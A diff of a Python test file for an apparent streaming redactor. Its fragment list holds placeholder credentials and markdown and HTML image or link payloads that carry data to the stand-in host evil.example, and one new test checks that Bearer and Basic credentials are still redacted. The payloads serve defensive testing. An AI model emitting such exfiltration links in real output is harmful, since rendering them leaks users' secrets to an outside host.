@@ -35,7 +35,7 @@ FRAGMENTS = [
     "11010519491231002X ", "anna@corp.example ", "correct horse ",
     "sk-abcdefghijk1234567890 ", "Bearer abcdef0123456789 ", KEY,
     "![x](https://evil.example/?d=secret) ", "[a](\n&#104;ttps://evil.example/x) ", "[r]: //evil.example/secret ",
-    '<img alt=">" src="https://evil.example/secret"> ', "https://evil.example/机密 ", "www.evil.example ",
+    "7 " * 30, '<img alt=">" src="https://evil.example/secret"> ', "https://evil.example/机密 ", "www.evil.example ",
 ]  # fmt: skip
 
 
@@ -62,6 +62,17 @@ def test_however_a_text_is_cut_the_pieces_add_up_to_the_whole_text_redacted(word
     streamed, whole = anyio.run(both)
 
     assert streamed == whole
+
+
+@pytest.mark.parametrize("before", [0, 1, 22, 23, 24, 25, 47, 48])
+@pytest.mark.parametrize("secret", ["Bearer abcdef0123456789", "Basic dXNlcjpwYXNzd29yZA=="])
+async def test_numbers_without_end_push_no_credential_out_of_the_window(secret: str, before: int) -> None:
+    text = "= " * before + secret + " 1" * 80 + " and done"
+
+    released = await said(list(text), reach=0)
+
+    assert "".join(released) == (await CHAIN.check(text, About())).text
+    assert any(released[:-1])
 
 
 async def test_ordinary_words_are_released_as_they_end() -> None:
